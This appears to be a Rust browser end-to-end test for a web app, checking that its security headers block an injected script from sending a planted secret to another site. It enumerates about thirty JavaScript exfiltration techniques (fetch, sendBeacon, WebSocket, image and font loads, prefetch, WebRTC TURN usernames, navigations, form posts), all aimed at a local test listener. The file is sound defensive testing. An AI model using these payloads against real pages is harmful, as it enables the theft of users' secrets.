//! Ways out for a secret: an injected script tries each of them to send one to another site. In Chromium and
//! in Firefox, none gets out of the page, except for those that docs/threat-model.md names. Without the
//! headers they all do.

use std::{
    io::{Read, Write},
    net::{TcpListener, UdpSocket},
    sync::{Arc, Mutex},
    thread,
    time::Duration,
};

use keyside_e2e::{
    browser::{Browser, Options},
    deployment::{Kind, Server},
    gateway::Gateway,
    setting,
};

/// The start of each planted secret. The name of the way follows.
const SECRET: &str = "planted-secret-";

/// Ways that leave the page where it is. `url(way)` is an address elsewhere with the secret in it.
const STAYING: [(&str, &str); 22] = [
    ("fetch", "fetch(url('fetch'), { mode: 'no-cors' })"),
    (
        "fetch-body",
        "fetch(SITE, { method: 'POST', mode: 'no-cors', body: secret('fetch-body') })",
    ),
    (
        "fetch-keepalive",
        "fetch(url('fetch-keepalive'), { mode: 'no-cors', keepalive: true })",
    ),
    (
        "xhr",
        "const call = new XMLHttpRequest(); call.open('GET', url('xhr')); call.send()",
    ),
    ("beacon", "navigator.sendBeacon(SITE, secret('beacon'))"),
    ("socket", "new WebSocket(url('socket').replace('http', 'ws'))"),
    ("event-source", "new EventSource(url('event-source'))"),
    ("image", "new Image().src = url('image')"),
    ("audio", "new Audio(url('audio')).load()"),
    (
        "video-poster",
        "const it = document.createElement('video'); it.poster = url('video-poster');
         document.body.append(it)",
    ),
    ("font", "new FontFace('x', `url(${url('font')})`).load()"),
    (
        "style",
        "const it = document.createElement('link'); it.rel = 'stylesheet'; it.href = url('style');
         document.head.append(it)",
    ),
    (
        "style-attribute",
        "document.body.style.backgroundImage = `url(${url('style-attribute')})`",
    ),
    (
        "frame",
        "const it = document.createElement('iframe'); it.src = url('frame');
         document.body.append(it)",
    ),
    (
        "object",
        "const it = document.createElement('object'); it.data = url('object');
         document.body.append(it)",
    ),
    (
        "prefetch",
        "const it = document.createElement('link'); it.rel = 'prefetch'; it.href = url('prefetch');
         document.head.append(it)",
    ),
    (
        "preload",
        "const it = document.createElement('link'); it.rel = 'preload'; it.as = 'image';
         it.href = url('preload'); document.head.append(it)",
    ),
    (
        "module-preload",
        "const it = document.createElement('link'); it.rel = 'modulepreload';
         it.href = url('module-preload'); document.head.append(it)",
    ),
    (
        "manifest",
        "const it = document.createElement('link'); it.rel = 'manifest'; it.href = url('manifest');
         document.head.append(it)",
    ),
    (
        "speculation-rules",
        "const it = document.createElement('script'); it.type = 'speculationrules';
         it.textContent = JSON.stringify({ prefetch: [ { urls: [url('speculation-rules')] } ] });
         document.head.append(it)",
    ),
    ("import", "import(url('import')).catch(() => {})"),
    (
        "web-rtc",
        "const it = new RTCPeerConnection({ iceServers: [
             { urls: `turn:127.0.0.1:${UDP}`, username: secret('web-rtc'), credential: 'x' } ] });
         it.createDataChannel('x'); it.createOffer().then((offer) => it.setLocalDescription(offer))",
    ),
];

/// Ways that take the page, or a new one, elsewhere.
const LEAVING: [(&str, &str); 8] = [
    ("location", "location.href = url('location')"),
    ("replace", "location.replace(url('replace'))"),
    (
        "link",
        "const it = document.createElement('a'); it.href = url('link');
         document.body.append(it); it.click()",
    ),
    (
        "link-ping",
        "const it = document.createElement('a'); it.href = '#/'; it.ping = url('link-ping');
         document.body.append(it); it.click()",
    ),
    ("window", "window.open(url('window'))"),
    (
        "window-no-opener",
        "window.open(url('window-no-opener'), '_blank', 'noopener')",
    ),
    (
        "refresh",
        "const it = document.createElement('meta'); it.httpEquiv = 'refresh';
         it.content = `0; url=${url('refresh')}`; document.head.append(it)",
    ),
    (
        "form",
        "const it = document.createElement('form'); it.action = SITE; it.method = 'post';
         const field = document.createElement('input'); field.name = 'key';
         field.value = secret('form'); it.append(field); document.body.append(it); it.submit()",
    ),
];

/// Another site, which keeps what it receives.
struct Elsewhere {
    port: u16,
    udp: u16,
    received: Arc<Mutex<Vec<u8>>>,
}

impl Elsewhere {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let datagrams = UdpSocket::bind("127.0.0.1:0").unwrap();
        let elsewhere = Self {
            port: listener.local_addr().unwrap().port(),
            udp: datagrams.local_addr().unwrap().port(),
            received: Arc::default(),
        };
        let received = Arc::clone(&elsewhere.received);
        thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let received = Arc::clone(&received);
                thread::spawn(move || {
                    let mut request = [0; 8192];
                    while let Ok(length @ 1..) = stream.read(&mut request) {
                        received.lock().unwrap().extend(&request[..length]);
                        let answer = "HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\
                            content-type: text/html\r\naccess-control-allow-origin: *\r\n\r\nok";
                        if stream.write_all(answer.as_bytes()).is_err() {
                            return;
                        }
                    }
                });
            }
        });
        let received = Arc::clone(&elsewhere.received);
        thread::spawn(move || {
            let mut datagram = [0; 2048];
            while let Ok((length, from)) = datagrams.recv_from(&mut datagram) {
                received.lock().unwrap().extend(&datagram[..length]);
                // A TURN server asks for the user name (RFC 8656, section 7.2).
                let _ = datagrams.send_to(&unauthorized(&datagram[..length]), from);
            }
        });
        elsewhere
    }

    /// The ways by which a secret arrived.
    fn arrived(&self) -> Vec<&'static str> {
        let received = self.received.lock().unwrap();
        let text = String::from_utf8_lossy(&received);
        let ways = STAYING.iter().chain(&LEAVING).map(|(way, _)| *way);
        // The secret ends with a dot, because some names begin with others.
        ways.filter(|way| text.contains(&format!("{SECRET}{way}.")))
            .collect()
    }

    /// JavaScript that tries a way.
    fn script(&self, attack: &str) -> String {
        let (port, udp) = (self.port, self.udp);
        format!(
            "const SITE = 'http://127.0.0.1:{port}/', UDP = {udp};
            const secret = (way) => `{SECRET}${{way}}.`;
            const url = (way) => `${{SITE}}?${{secret(way)}}`;
            {attack}"
        )
    }
}

/// The answer to a TURN request without a user name: error 401 with a realm and a nonce.
fn unauthorized(request: &[u8]) -> Vec<u8> {
    let attribute = |kind: u16, value: &[u8]| {
        let length = u16::try_from(value.len()).unwrap();
        let padding = vec![0; (4 - value.len() % 4) % 4];
        [
            &kind.to_be_bytes()[..],
            &length.to_be_bytes(),
            value,
            &padding,
        ]
        .concat()
    };
    let attributes = [
        attribute(0x0009, b"\0\0\x04\x01Unauthorized"),
        attribute(0x0014, b"realm"),
        attribute(0x0015, b"nonce"),
    ]
    .concat();
    let kind = [0x01, request.get(1).copied().unwrap_or_default() | 0x10];
    let length = u16::try_from(attributes.len()).unwrap();
    let transaction = request.get(4..20).unwrap_or_default();
    [&kind[..], &length.to_be_bytes(), transaction, &attributes].concat()
}

/// Tries all ways from the page at `url`.
async fn try_all(browser: &Browser, url: &str, elsewhere: &Elsewhere) {
    browser.open(url).await;
    browser.find("main").await;
    for (_, attack) in STAYING {
        let script = elsewhere.script(&format!("try {{ {attack} }} catch {{ }}"));
        browser.run(&script).await;
    }
    tokio::time::sleep(Duration::from_secs(3)).await;
    let first = browser.client.window().await.unwrap();
    for (_, attack) in LEAVING {
        browser.open(url).await;
        browser.find("main").await;
        // In a task of the page, so that the command is answered before the page is left.
        let script = elsewhere.script(&format!(
            "setTimeout(() => {{ try {{ {attack} }} catch {{ }} }})"
        ));
        browser.run(&script).await;
        tokio::time::sleep(Duration::from_millis(700)).await;
        for window in browser.client.windows().await.unwrap() {
            if window != first {
                browser.client.switch_to_window(window).await.unwrap();
                browser.client.close_window().await.unwrap();
            }
        }
        browser
            .client
            .switch_to_window(first.clone())
            .await
            .unwrap();
    }
    browser.open(url).await;
    // The violations are expected here.
    browser.console().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn in_chromium_nothing_gets_out_of_the_page() {
    let (gateway, elsewhere) = (Gateway::start(), Elsewhere::start());
    let browser = Browser::start(Options::own_process()).await;
    try_all(&browser, &gateway.url(), &elsewhere).await;
    assert_eq!(elsewhere.arrived(), Vec::<&str>::new());
    let sent = keyside_e2e::netlog::sent(&browser.close().await).concat();
    assert!(!String::from_utf8_lossy(&sent).contains(SECRET));
}

#[tokio::test(flavor = "multi_thread")]
async fn in_firefox_nothing_but_navigation_gets_out_of_the_page() {
    let (gateway, elsewhere) = (Gateway::start(), Elsewhere::start());
    let browser = Browser::start_firefox().await;
    try_all(&browser, &gateway.url(), &elsewhere).await;
    assert_eq!(elsewhere.arrived(), OPEN_IN_FIREFOX);
}

/// Firefox has no Connection-Allowlist (docs/threat-model.md).
const OPEN_IN_FIREFOX: [&str; 6] = [
    "location",
    "replace",
    "link",
    "window",
    "window-no-opener",
    "refresh",
];

/// Control: without the headers, the secrets arrive.
#[tokio::test(flavor = "multi_thread")]
async fn without_the_headers_everything_gets_out() {
    let elsewhere = Elsewhere::start();
    let server = Server::custom(Kind::Nginx, |port| {
        let dist = setting("KEYSIDE_DIST");
        format!(
            "pid /run/keyside-nginx.pid; error_log stderr warn; events {{}}
            http {{ types {{ text/html html; text/javascript js; text/css css; }}
                access_log off; server {{
                listen 127.0.0.1:{port}; root {}; }} }}",
            dist.display()
        )
    });
    let browser = Browser::start(Options::default()).await;
    let url = format!("http://127.0.0.1:{}/", server.port);
    try_all(&browser, &url, &elsewhere).await;
    let arrived = elsewhere.arrived();
    let all = STAYING.iter().chain(&LEAVING).map(|(way, _)| *way);
    let stayed: Vec<_> = all.filter(|way| !arrived.contains(way)).collect();
    assert_eq!(stayed, Vec::<&str>::new());
}
